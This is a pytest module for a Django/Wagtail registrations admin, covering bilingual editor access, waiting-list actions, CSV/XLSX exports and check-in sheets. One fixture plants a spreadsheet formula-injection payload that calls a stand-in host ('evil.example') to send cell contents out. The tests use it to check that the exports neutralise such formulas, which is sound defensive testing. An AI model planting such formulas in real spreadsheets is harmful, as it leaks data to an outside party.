"""The organisers' admin through its URLs, as the German (naumburg) and French (lesulis) editors."""

import csv
import datetime
import html
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core import mail
from django.test import Client
from django.utils import translation
from wagtail.models import GroupPagePermission, ModelLogEntry

from partnership.models import WorkshopPage
from registrations import booking
from registrations.housekeeping import remove_personal_data
from registrations.models import Registration, RegistrationList
from tests.factories import UserFactory
from tests.queries import counted_queries
from tests.registrations.helpers import days_from_now, open_registration
from tests.subscribers.helpers import run_mail_worker

pytestmark = pytest.mark.django_db

INDEX = "/admin/registrations/"
SLUG = {"de": "folgeworkshop-foerdermoeglichkeiten-2025", "fr": "atelier-de-suivi-financement-2025"}
GERMAN_TITLE = "Folgeworkshop: Fördermöglichkeiten für Städtepartnerschaften"
MEAL, GROUP = "3f1c9a52-6a3e-4c8e-9a55-0d1f2b6f7a01", "3f1c9a52-6a3e-4c8e-9a55-0d1f2b6f7a02"
QUESTIONS = {
    "de": [
        {
            "type": "choice",
            "id": MEAL,
            "value": {
                "label": "Mittagessen",
                "help_text": "",
                "choices": ["Vegetarisch", "Mit Fleisch"],
                "required": False,
            },
        },
        {
            "type": "text",
            "id": GROUP,
            "value": {"label": "Arbeitsgruppe", "help_text": "", "required": False},
        },
    ],
    "fr": [
        {
            "type": "choice",
            "id": MEAL,
            "value": {
                "label": "Repas",
                "help_text": "",
                "choices": ["Végétarien", "Avec viande"],
                "required": False,
            },
        },
        {
            "type": "text",
            "id": GROUP,
            "value": {"label": "Groupe de travail", "help_text": "", "required": False},
        },
    ],
}


@pytest.fixture(autouse=True)
def no_other_lists(db):
    """These tests count their own lists; the demo may bring registrations of its own."""
    RegistrationList.objects.all().delete()


def login(client, username):
    client.force_login(get_user_model().objects.get(username=username))
    return client


def text(response):
    return html.unescape(response.content.decode())


def book(registration_list, email, *, name, language="de", **fields):
    outcome = booking.register(
        registration_list,
        base_url="http://localhost/",
        email=email,
        name=name,
        organisation=fields.pop("organisation", "Freiwilligenagentur"),
        town=fields.pop("town", "Naumburg (Saale)"),
        language=language,
        access_needs=fields.pop("access_needs", ""),
        answers=fields.pop("answers", {}),
        consent_text="Ja.",
        page_url="http://localhost/",
    )
    return outcome.registration


@pytest.fixture
def workshop(demo, monkeypatch):
    """The demo's German-source follow-up workshop: 2 seats, questions in both languages."""
    start = days_from_now(20).replace(microsecond=0)
    french = WorkshopPage.objects.get(slug=SLUG["fr"])
    french.registration_questions = QUESTIONS["fr"]
    french.save_revision().publish()
    german = open_registration(
        WorkshopPage.objects.get(slug=SLUG["de"]),
        start=start,
        end=start + datetime.timedelta(hours=2),
        registration_questions=QUESTIONS["de"],
    )
    registration_list = RegistrationList.objects.get(translation_key=german.translation_key)
    people = {
        "anna": book(
            registration_list,
            "anna@example.org",
            name="Anna Sitz",
            access_needs="Rollstuhlplatz",
            answers={MEAL: 0, GROUP: "Förderung"},
        ),
        "claire": book(
            registration_list,
            "claire@example.org",
            name="Claire Place",
            language="fr",
            town="Les Ulis",
            answers={MEAL: 1},
        ),
        "hans": book(registration_list, "hans@example.org", name="Hans Warte"),
        "marie": book(registration_list, "marie@example.org", name="Marie Attente", language="fr"),
        "otto": book(registration_list, "otto@example.org", name="Otto Storno"),
    }
    booking.cancel(people["otto"], by=Registration.CancelledBy.REGISTRANT, base_url="http://x/")
    run_mail_worker(monkeypatch)
    mail.outbox.clear()
    for person in people.values():
        person.refresh_from_db()
    return {"de": german, "fr": french, "list": registration_list, "people": people}


@pytest.fixture
def german_only(demo, workshop):
    """A workshop in the German tree with no French version, and one person registered."""
    index = workshop["de"].get_parent()
    start = days_from_now(40).replace(microsecond=0)
    page = index.add_child(
        instance=WorkshopPage(
            title="Nur auf Deutsch",
            slug="nur-auf-deutsch",
            locale=workshop["de"].locale,
            start=start,
            end=start + datetime.timedelta(hours=2),
            summary="Nur für Naumburg.",
            venue_town="Naumburg (Saale)",
        )
    )
    page = open_registration(page, capacity=None)
    registration_list = RegistrationList.objects.get(translation_key=page.translation_key)
    book(registration_list, "nur@example.org", name="Nur Deutsch")
    return registration_list


@pytest.fixture
def outsider(workshop, demo):
    """An editor of a German page that is neither version of the workshop nor above it."""
    elsewhere = demo.home_de.get_children().exclude(pk=workshop["de"].get_parent().pk).first()
    group = Group.objects.create(name="Redaktion anderswo")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    GroupPagePermission.objects.create(
        group=group, page=elsewhere, permission=Permission.objects.get(codename="change_page")
    )
    user = UserFactory(username="anderswo")
    user.groups.add(group)
    return user


def row_counts(page_text, registration_list):
    row = re.search(
        rf'<tr data-list="{registration_list.pk}">(.*?)</tr>', page_text, flags=re.DOTALL
    ).group(1)
    return {
        name: re.search(rf"<td data-{name}>([^<]*)</td>", row).group(1)
        for name in ("confirmed", "waiting", "cancelled", "seats-left")
    }


class TestListing:
    def test_naumburg_sees_the_list_and_its_counts_in_german(self, client, workshop, german_only):
        response = login(client, "naumburg").get(INDEX)
        assert response.status_code == 200
        page = text(response)
        assert "<h1" in page and "Anmeldungen" in page
        for heading in ("Veranstaltung", "Bestätigt", "Wartend", "Storniert", "Freie Plätze"):
            assert f"<th>{heading}</th>" in page
        assert GERMAN_TITLE in page and "Nur auf Deutsch" in page
        assert row_counts(page, workshop["list"]) == {
            "confirmed": "2",
            "waiting": "2",
            "cancelled": "1",
            "seats-left": "0",
        }
        assert row_counts(page, german_only) == {
            "confirmed": "1",
            "waiting": "0",
            "cancelled": "0",
            "seats-left": "–",
        }
        assert "Unbegrenzt" in page

    def test_lesulis_sees_the_shared_list_in_french_but_not_the_german_only_one(
        self, client, workshop, german_only
    ):
        page = text(login(client, "lesulis").get(INDEX))
        assert "Inscriptions" in page
        for heading in ("Événement", "En attente", "Places restantes"):
            assert f"<th>{heading}</th>" in page
        assert GERMAN_TITLE in page
        assert row_counts(page, workshop["list"])["waiting"] == "2"
        assert "Nur auf Deutsch" not in page
        assert client.get(f"{INDEX}{german_only.pk}/", follow=True).status_code == 404

    def test_the_superuser_sees_all(self, client, workshop, german_only):
        page = text(login(client, "admin").get(INDEX))
        assert GERMAN_TITLE in page and "Nur auf Deutsch" in page

    def test_the_menu_item_in_each_language(self, client, workshop):
        assert '"/admin/registrations/"' in text(login(client, "naumburg").get("/admin/"))
        assert "Anmeldungen" in text(client.get("/admin/"))
        assert "Inscriptions" in text(login(client, "lesulis").get("/admin/"))

    def test_counts_take_one_query_however_many_lists(self, client, workshop, demo):
        login(client, "naumburg")
        index = workshop["de"].get_parent()

        def add_lists(numbers):
            for number in numbers:
                start = days_from_now(50 + number)
                page = index.add_child(
                    instance=WorkshopPage(
                        title=f"Zähltermin {number}",
                        slug=f"zaehltermin-{number}",
                        locale=demo.de,
                        start=start,
                        end=start + datetime.timedelta(hours=1),
                        summary="Zum Zählen.",
                        venue_town="Naumburg (Saale)",
                    )
                )
                page = open_registration(page)
                registration_list = RegistrationList.objects.get(
                    translation_key=page.translation_key
                )
                for person in range(3):
                    book(registration_list, f"z{number}-{person}@example.org", name="Zahl")

        add_lists(range(2))
        client.get(INDEX)
        with counted_queries() as few:
            assert text(client.get(INDEX)).count("Zähltermin") == 2
        add_lists(range(2, 7))
        with counted_queries() as more:
            assert text(client.get(INDEX)).count("Zähltermin") == 7
        assert len(more) == len(few)
        [listing] = [sql for sql in more if "registrations_registrationlist" in sql]
        assert "COUNT" in listing.upper()


class TestOneList:
    def test_naumburg_reads_seats_waiting_list_and_answers_in_german(self, client, workshop):
        response = login(client, "naumburg").get(f"{INDEX}{workshop['list'].pk}/")
        assert response.status_code == 200
        page = text(response)
        assert "2 bestätigt, 2 wartend, 1 storniert, 0 Plätze frei." in " ".join(page.split())
        for heading in ("Mit Platz", "Warteliste", "Mittagessen", "Arbeitsgruppe"):
            assert heading in page
        seats, waiting, cancelled = (
            re.search(rf'data-section="{section}">(.*?)</table>', page, flags=re.DOTALL).group(1)
            for section in ("confirmed", "waiting", "cancelled")
        )
        assert "Anna Sitz" in seats and "Claire Place" in seats
        assert "Vegetarisch" in seats and "Mit Fleisch" in seats and "Förderung" in seats
        assert "Rollstuhlplatz" in seats
        assert seats.count("Platz geben") == 0 and seats.count("Für die Person stornieren") == 2
        assert waiting.index("Hans Warte") < waiting.index("Marie Attente")
        assert waiting.count("Platz geben") == 2
        assert "Otto Storno" in cancelled and "Die angemeldete Person" in cancelled
        for label in ("CSV exportieren", "XLSX exportieren", "Anwesenheitsliste zum Drucken"):
            assert label in page

    def test_lesulis_reads_the_french_labels_of_the_same_questions(self, client, workshop):
        page = text(login(client, "lesulis").get(f"{INDEX}{workshop['list'].pk}/"))
        assert "2 confirmées, 2 en attente, 1 annulée, 0 place restante." in " ".join(page.split())
        for word in ("Liste d’attente", "Repas", "Groupe de travail", "Végétarien", "Avec viande"):
            assert word in page
        assert "Mittagessen" not in page
        assert "Donner une place" in page and "Exporter en CSV" in page

    @pytest.mark.parametrize("username", ["anderswo", "lesulis"])
    def test_who_edits_neither_version_finds_nothing(
        self, client, workshop, german_only, outsider, username
    ):
        login(client, username)
        if username == "anderswo":
            registration_list = workshop["list"]
            page = text(client.get(INDEX))
            assert GERMAN_TITLE not in page and "Nur auf Deutsch" not in page
        else:
            registration_list = german_only
        person = registration_list.registrations.first()
        base = f"{INDEX}{registration_list.pk}/"
        for url in (
            base,
            base + "?export=csv",
            base + "?export=xlsx",
            base + "check-in/",
            f"{base}{person.pk}/cancel/",
        ):
            assert client.get(url, follow=True).status_code == 404, url
        assert client.post(f"{base}{person.pk}/cancel/", follow=True).status_code == 404
        person.refresh_from_db()
        assert person.status == Registration.Status.CONFIRMED
        assert not ModelLogEntry.objects.filter(action__startswith="registrations.").exists()

    def test_an_editor_of_no_page_is_refused_and_a_visitor_sent_to_the_login(
        self, client, workshop
    ):
        user = UserFactory(username="nurlesend")
        user.user_permissions.add(Permission.objects.get(codename="access_admin"))
        client.force_login(user)
        # Wagtail's way of refusing: back to the dashboard, with its message.
        refused = client.get(INDEX, follow=True)
        assert refused.redirect_chain == [("/admin/", 302)]
        assert "Sie haben leider keinen Zugang zu diesem Bereich." in text(refused)
        assert "/admin/registrations/" not in text(client.get("/admin/"))
        anonymous = Client()
        answer = anonymous.get(f"{INDEX}{workshop['list'].pk}/")
        assert answer.status_code == 302 and "/admin/login/" in answer["Location"]

    def test_a_registration_of_another_list_is_not_found(self, client, workshop, german_only):
        login(client, "naumburg")
        stranger = german_only.registrations.first()
        url = f"{INDEX}{workshop['list'].pk}/{stranger.pk}/cancel/"
        assert client.get(url, follow=True).status_code == 404
        assert client.post(url, follow=True).status_code == 404


class TestActions:
    def test_naumburg_gives_marie_a_seat_and_she_is_told_in_french(
        self, client, workshop, monkeypatch
    ):
        marie = workshop["people"]["marie"]
        url = f"{INDEX}{workshop['list'].pk}/{marie.pk}/move-up/"
        confirm = login(client, "naumburg").get(url)
        page = text(confirm)
        assert confirm.status_code == 200
        assert "Marie Attente einen Platz für" in page and "Ja, Platz geben" in page
        assert 'name="csrfmiddlewaretoken"' in page
        marie.refresh_from_db()
        assert marie.status == Registration.Status.WAITING, "opening the page changes nothing"

        done = client.post(url, follow=True)
        assert "Marie Attente hat jetzt einen Platz" in text(done)
        marie.refresh_from_db()
        assert marie.status == Registration.Status.CONFIRMED
        assert mail.outbox == [], "the worker sends it"
        run_mail_worker(monkeypatch)
        [moved] = mail.outbox
        assert moved.to == ["marie@example.org"]
        assert moved.subject.startswith("Vous avez une place")
        assert moved.attachments[0][0] == "event.ics"
        [entry] = ModelLogEntry.objects.filter(action="registrations.move_up")
        assert entry.user.username == "naumburg" and entry.data == {"registration": marie.pk}
        assert "Marie" not in entry.label, "the log names no one"
        # Three seats taken out of two: the organiser may go beyond the page's seats.
        page = text(client.get(INDEX))
        assert row_counts(page, workshop["list"])["confirmed"] == "3"
        # Again: nothing to do, said so.
        again = client.post(url, follow=True)
        assert "steht nicht (mehr) auf der Warteliste" in text(again)

    def test_lesulis_cancels_for_anna_who_is_told_in_german_and_hans_moves_up(
        self, client, workshop, monkeypatch
    ):
        anna, hans = workshop["people"]["anna"], workshop["people"]["hans"]
        url = f"{INDEX}{workshop['list'].pk}/{anna.pk}/cancel/"
        page = text(login(client, "lesulis").get(url))
        assert "Annuler l’inscription de Anna Sitz" in page
        assert "Oui, annuler l’inscription" in page and "Non, retour à la liste" in page
        done = client.post(url, follow=True)
        assert "L’inscription de Anna Sitz est annulée" in text(done)
        anna.refresh_from_db()
        hans.refresh_from_db()
        assert anna.status == Registration.Status.CANCELLED
        assert anna.cancelled_by == Registration.CancelledBy.ORGANISER
        assert hans.status == Registration.Status.CONFIRMED
        run_mail_worker(monkeypatch)
        [cancelled] = [message for message in mail.outbox if message.to == ["anna@example.org"]]
        assert cancelled.subject.startswith("Ihre Anmeldung wurde storniert")
        assert cancelled.extra_headers["Content-Language"] == "de"
        [moved] = [message for message in mail.outbox if message.to == ["hans@example.org"]]
        assert moved.subject.startswith("Sie haben einen Platz")
        assert ModelLogEntry.objects.filter(action="registrations.cancel_on_behalf").count() == 1
        page = text(client.get(f"{INDEX}{workshop['list'].pk}/"))
        cancelled_rows = re.search(r'data-section="cancelled">(.*?)</table>', page, re.DOTALL)
        assert "Anna Sitz" in cancelled_rows.group(1)
        again = client.post(url, follow=True)
        assert "était déjà annulée" in text(again)
        assert len(mail.outbox) == 2

    def test_the_action_needs_the_csrf_token(self, workshop):
        client = Client(enforce_csrf_checks=True)
        login(client, "naumburg")
        anna = workshop["people"]["anna"]
        answer = client.post(f"{INDEX}{workshop['list'].pk}/{anna.pk}/cancel/")
        assert answer.status_code == 403
        anna.refresh_from_db()
        assert anna.status == Registration.Status.CONFIRMED

    def test_the_log_says_what_was_done_in_the_admin_language(self, client, workshop):
        marie = workshop["people"]["marie"]
        login(client, "naumburg").post(f"{INDEX}{workshop['list'].pk}/{marie.pk}/move-up/")
        entry = ModelLogEntry.objects.get(action="registrations.move_up")
        assert entry.label == GERMAN_TITLE
        with translation.override("de"):
            assert entry.formatter.label == "Platz von der Warteliste geben"
            assert "Warteliste" in entry.formatter.format_message(entry)
        with translation.override("fr"):
            assert "liste d’attente" in entry.formatter.format_message(entry)


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


class TestExports:
    @pytest.fixture
    def tricky(self, workshop):
        """A registrant who tries to plant formulas in the spreadsheet."""
        anna = workshop["people"]["anna"]
        anna.name = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
        anna.organisation = "+49 3445 7030"
        anna.answers = {MEAL: 0, GROUP: "@SUM(1+1)"}
        anna.save()
        return anna

    def test_csv_in_german_with_the_questions_and_no_formula(self, client, workshop, tricky):
        response = login(client, "naumburg").get(f"{INDEX}{workshop['list'].pk}/?export=csv")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert ".csv" in response["Content-Disposition"]
        assert response.content.startswith("\ufeff".encode()), "Excel reads it as UTF-8"
        rows = csv_rows(response)
        heading = rows[0]
        assert heading[:4] == ["Stand", "Platz auf der Warteliste", "Name", "E-Mail-Adresse"]
        assert "Mittagessen" in heading and "Arbeitsgruppe" in heading
        assert "Barrierefreiheit" in heading and "Angemeldet am" in heading
        records = [dict(zip(heading, row, strict=True)) for row in rows[1:]]
        assert [record["E-Mail-Adresse"] for record in records] == [
            "anna@example.org",
            "claire@example.org",
            "hans@example.org",
            "marie@example.org",
            "otto@example.org",
        ]
        anna, claire, hans, marie, otto = records
        assert anna["Name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")'
        assert anna["Verein oder Organisation"] == "'+49 3445 7030"
        assert anna["Arbeitsgruppe"] == "'@SUM(1+1)"
        assert anna["Mittagessen"] == "Vegetarisch" and claire["Mittagessen"] == "Mit Fleisch"
        assert anna["Barrierefreiheit"] == "Rollstuhlplatz"
        assert (hans["Platz auf der Warteliste"], marie["Platz auf der Warteliste"]) == ("1", "2")
        assert claire["Sprache der E-Mails"] == "Français"
        assert otto["Stand"] == "Storniert" and otto["Storniert von"] == "Die angemeldete Person"

    def test_xlsx_in_french_keeps_formulas_as_text(self, client, workshop, tricky):
        response = login(client, "lesulis").get(f"{INDEX}{workshop['list'].pk}/?export=xlsx")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        body = b"".join(response.streaming_content)
        sheet = openpyxl.load_workbook(io.BytesIO(body)).active
        rows = list(sheet.iter_rows())
        heading = [cell.value for cell in rows[0]]
        assert heading[:3] == ["Statut", "Rang sur la liste d’attente", "Nom"]
        assert "Repas" in heading and "Groupe de travail" in heading
        anna = dict(zip(heading, rows[1], strict=True))
        assert anna["Nom"].value == '=HYPERLINK("http://evil.example/?"&A1,"Klick")'
        assert anna["Nom"].data_type == "s"
        assert anna["Groupe de travail"].data_type == "s"
        assert anna["Repas"].value == "Végétarien"
        assert isinstance(anna["Inscrit le"].value, datetime.datetime)

    def test_a_question_label_cannot_start_a_formula(self, client, workshop):
        german = workshop["de"]
        german.registration_questions = [
            {**QUESTIONS["de"][1], "value": {**QUESTIONS["de"][1]["value"], "label": "=1+1"}}
        ]
        german.save_revision().publish()
        rows = csv_rows(login(client, "naumburg").get(f"{INDEX}{workshop['list'].pk}/?export=csv"))
        assert "'=1+1" in rows[0]
        assert "Mittagessen" not in rows[0] and "Repas" in rows[0], "the French version has it"


class TestCheckIn:
    def test_a_printable_list_of_those_with_a_seat(self, client, workshop):
        response = login(client, "naumburg").get(f"{INDEX}{workshop['list'].pk}/check-in/")
        assert response.status_code == 200
        page = text(response)
        assert '<html lang="de">' in page
        assert "Anwesenheitsliste: " + GERMAN_TITLE in page
        assert "@media print" in page
        assert "2 Personen mit Platz" in page
        assert page.count("<tr data-person>") == 2
        assert page.index("Anna Sitz") < page.index("Claire Place")
        assert "Rollstuhlplatz" in page and "Les Ulis" in page and "Freiwilligenagentur" in page
        assert 'class="box"' in page
        for absent in ("Hans Warte", "Marie Attente", "Otto Storno", "anna@example.org"):
            assert absent not in page

    def test_in_french(self, client, workshop):
        page = text(login(client, "lesulis").get(f"{INDEX}{workshop['list'].pk}/check-in/"))
        assert '<html lang="fr">' in page
        assert "Liste d’émargement" in page and "Présent" in page
        assert "Besoins d’accessibilité" in page


class TestAfterTheEvent:
    def test_the_numbers_stay_and_the_people_are_gone(self, client, workshop):
        remove_personal_data(now=workshop["list"].ends_at + datetime.timedelta(days=365))
        login(client, "naumburg")
        page = text(client.get(f"{INDEX}{workshop['list'].pk}/"))
        assert "2 bestätigt, 2 wartend, 1 storniert" in " ".join(page.split())
        assert "wurden nach ihr gelöscht" in page
        assert "Anna Sitz" not in page and "anna@example.org" not in page
        assert "(entfernt)" in page
        assert "Platz geben" not in page and "Für die Person stornieren" not in page
        marie = workshop["people"]["marie"]
        move_up = f"{INDEX}{workshop['list'].pk}/{marie.pk}/move-up/"
        assert client.post(move_up, follow=True).status_code == 404
        assert "Personenbezogene Daten entfernt" in text(client.get(INDEX))


def test_one_list_takes_as_many_queries_for_many_people_as_for_few(client, workshop):
    login(client, "naumburg")
    url = f"{INDEX}{workshop['list'].pk}/"
    client.get(url)
    with counted_queries() as few:
        client.get(url)
    for number in range(20):
        book(workshop["list"], f"viele{number}@example.org", name=f"Viele {number}")
    with counted_queries() as more:
        assert text(client.get(url)).count("Viele ") == 20
    assert len(more) == len(few)
